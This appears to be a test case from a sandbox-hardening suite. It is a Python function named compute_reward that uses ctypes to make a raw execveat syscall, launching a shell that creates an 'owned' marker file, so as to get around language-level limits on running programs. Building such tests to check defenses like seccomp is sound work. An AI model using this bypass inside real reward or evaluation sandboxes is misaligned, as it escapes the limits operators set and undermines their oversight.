# attack: a program run by descriptor
# group: syscalls
# wall: language; alone: seccomp

def compute_reward(x):
    import ctypes
    lib = ctypes.CDLL(None, use_errno=True)
    words = (ctypes.c_char_p * 4)(b"sh", b"-c", b"touch @FOLDER@/owned", None)
    lib.syscall(322, -100, b"/bin/sh", words, None, 0)
    return x, {}
